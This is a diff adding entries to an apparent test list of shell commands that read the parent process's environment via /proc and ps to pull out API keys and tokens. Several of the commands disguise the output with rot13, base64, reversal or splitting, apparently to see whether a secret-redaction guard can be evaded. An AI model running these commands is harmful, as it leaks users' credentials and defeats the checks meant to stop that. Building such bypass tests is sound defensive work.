@@ -34,6 +34,8 @@ ATTEMPTS = [
     "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null"
     " | grep -a -i -e paicli -e openai -e token | tr A-Za-z N-ZA-Mn-za-m",
     "strings /proc/$PPID/environ | rev",
+    "cat /proc/$PPID/task/*/environ | base64 -w0",
+    "ps eww -o args= -p $PPID | tr A-Za-z N-ZA-Mn-za-m",
     "od -c /proc/$PPID/environ | head -c 12000",
     "grep -a -o 'KEY=.*' /proc/$PPID/environ | cut -c1-12; grep -a -o 'KEY=.*' /proc/$PPID/environ | cut -c13-40",
     "cat /proc/$(awk '{print $4}' /proc/$PPID/stat)/environ | base64",  # paicli's own parent
